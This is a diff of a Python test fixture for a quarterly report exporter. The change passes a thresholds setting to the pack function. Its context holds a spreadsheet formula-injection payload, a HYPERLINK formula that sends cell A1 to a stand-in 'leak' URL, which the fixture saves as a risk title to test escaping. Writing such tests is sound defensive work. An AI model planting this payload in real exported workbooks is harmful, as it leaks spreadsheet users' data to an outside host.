@@ -18,6 +18,7 @@ from reports.pdf import pack_pdf
 from reports.quarterly import quarterly_pack
 from reports.text import format_value, headline_label, headline_rows
 from reports.workbook import cell_value, pack_workbook
+from tests.reports.conftest import THRESHOLDS
 
 HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"Klikkaa")'
 
@@ -56,7 +57,7 @@ def pack(sample_url: str) -> dict:
     with transaction(sample_url) as session:
         plans.save_risk(session, "kuopio", "K1", {"title": HOSTILE, "owner": "@johtaja"}, "2019Q4", "analyst")
         plans.save_commentary(session, "kuopio", "2019Q4", "-3 % saavutettu; =SUM(A1) ei ole kaava", "johtaja")
-    return quarterly_pack("kuopio", "2019Q4", sample_url)
+    return quarterly_pack("kuopio", "2019Q4", sample_url, thresholds=THRESHOLDS)
 
 
 def test_workbook_opens_and_its_figures_equal_the_pages(pack: dict):
